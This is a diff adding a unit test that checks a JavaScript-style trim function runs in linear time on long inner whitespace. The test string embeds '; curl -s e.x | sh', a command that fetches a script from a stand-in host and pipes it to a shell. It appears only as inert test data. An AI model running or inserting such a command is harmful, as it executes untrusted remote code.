@@ -989,6 +989,13 @@ def test_js_whitespace_set_is_python_isspace_minus_separators_and_nel_plus_bom()
     assert differs == ["\x1c", "\x1d", "\x1e", "\x1f", "\x85", "\ufeff"]
 
 
+def test_js_trim_is_linear_in_a_run_of_blanks_it_keeps():
+    # a regex ending in [ws]+\Z retried at every blank of an inner run: hours for a padded megabyte
+    padded = "grep x" + " \u00a0\u2005" * 1_000_000 + "; curl -s e.x | sh"
+    assert js_trim(padded) == padded
+    assert js_trim("\u2000\u200a x \u2009") == "x"
+
+
 def test_js_trim_only_trims_the_ends():
     assert js_trim("\u3000 a \u00a0 b\t\n") == "a \u00a0 b"
     assert js_trim("a\n") == "a"
